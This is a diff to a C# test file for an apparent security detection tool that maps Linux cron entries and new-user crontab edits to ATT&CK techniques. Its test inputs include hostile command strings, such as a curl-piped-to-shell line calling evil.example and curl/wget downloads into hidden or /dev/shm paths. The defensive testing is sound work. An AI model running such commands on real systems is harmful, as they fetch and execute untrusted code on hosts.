@@ -120,6 +120,9 @@ public sealed class HostSummaryRuleTests
         expected ? "T1543.003" : null);
 
     [TestCase("curl -s http://evil.example/x | sh", "root", "", "T1053.003")]
+    [TestCase("/usr/bin/curl -s https://cdn.example/u -o /tmp/.upd", "root", "", "T1105")]
+    [TestCase("wget -q https://cdn.example/u -O /dev/shm/u", "root", "", "T1105")]
+    [TestCase("curl -s https://updates.example/list -o /var/lib/app/list", "root", "", null)]
     [TestCase("", "www-data", "REPLACE", "T1053.003")]
     [TestCase("run-parts --report /etc/cron.hourly", "root", "", null)]
     [TestCase("", "root", "REPLACE", null)]
@@ -127,6 +130,20 @@ public sealed class HostSummaryRuleTests
     public async Task Cron_counts_when_it_fetches_code_or_a_service_changes_it(string command, string user, string edit, string? technique) => AssertTechnique(
         await HostSummaryRun.FindingsAsync("ScheduledTasksLinux", ("Type", "Cron job"), ("CMD", command), ("CronUser", user), ("EditStatus", edit)),
         technique);
+
+    [TestCase("sysupd", 1)]
+    [TestCase("ann", 0)]
+    public async Task A_crontab_counts_when_its_user_is_new(string user, int expected)
+    {
+        var backend = new FakeBackend()
+            .Answer("ScheduledTasksLinux", TestTable.Of("Type CMD CronUser EditStatus", ["Crontab change", "", user, "REPLACE"], ["Crontab change", "", user, "BEGIN EDIT"]))
+            .Answer("AccountActionsLinux", TestTable.Of("UserGroupAction User Group SyslogMessage", ["Add", "sysupd", "", "new user: name=sysupd"], ["Modify", "ann", "", "change user 'ann' password"]));
+
+        var findings = (await HostSummaryRun.RunAsync(backend)).Findings;
+
+        Assert.That(findings.Select(f => (f.Severity, f.Step)), Is.EqualTo(Enumerable.Repeat((Severity.High, "scheduled_tasks"), expected)));
+        Assert.That(findings.SelectMany(f => f.Rows), Is.EqualTo(Enumerable.Repeat(0L, expected)), "reading a crontab changes nothing");
+    }
 
     [Test]
     public async Task Encoded_PowerShell_counts_medium_and_an_encoded_cradle_high()
